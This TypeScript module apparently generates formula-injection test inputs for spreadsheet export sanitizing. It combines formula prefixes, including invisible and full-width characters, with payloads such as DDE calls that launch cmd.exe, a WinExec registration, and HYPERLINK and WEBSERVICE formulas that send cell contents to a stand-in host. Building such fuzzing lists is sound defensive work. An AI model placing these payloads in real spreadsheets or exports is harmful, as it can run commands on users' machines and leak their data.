import { chanceOf } from "./chance";
import { hostileTexts } from "./hostile-texts";

const calls = [
  `HYPERLINK("https://exemple.test/?x="&A1,"ici")`,
  `WEBSERVICE("https://exemple.test/"&A1)`,
  `IMPORTXML("https://exemple.test","//a")`,
  `cmd|'/c calc'!A0`,
  `DDE("cmd";"/c calc";"!A0")`,
  `MSEXCEL|'\\..\\..\\cmd.exe'!''`,
  `SUM(1+1)*cmd|' /C calc'!A0`,
  `1+1`,
  `A1:B2`,
  `EXEC("calc")`,
  `REGISTER.ID("kernel32","WinExec")`,
  `'[x.ods]a'#A1`,
];
const starts = [
  ...["=", "+", "-", "@", "|", "\t", "\r", "\n", "\u0000", "\uff1d", "\uff0b", "\uff0d", "\uff20"],
  ...[
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\u0000=",
    "\ufeff=",
    "\u200b=",
    "\u00a0=",
    "==",
    "=-",
    "-=",
    '"=',
  ],
  ...['";=', '",=', '"\r\n=', ";=", "'=", "\u2028="],
];
const ends = ["", "\t", ' ; "fin"', "\r\n=1", "_x000D_", " \u0000"];

/** A thousand texts that a spreadsheet might take for a formula, and whatever else is hostile. */
export const formulaTexts: readonly string[] = [
  ...starts.flatMap((start) => calls.map((call) => start + call)),
  ...starts.flatMap((start) => ends.map((end) => `${start}1${end}`)),
  ...hostileTexts,
];

/** As many of them as asked, the same every time. */
export function someFormulaTexts(count: number, seed: number): string[] {
  const chance = chanceOf(seed);
  return Array.from({ length: count }, () => chance.pick(formulaTexts));
}
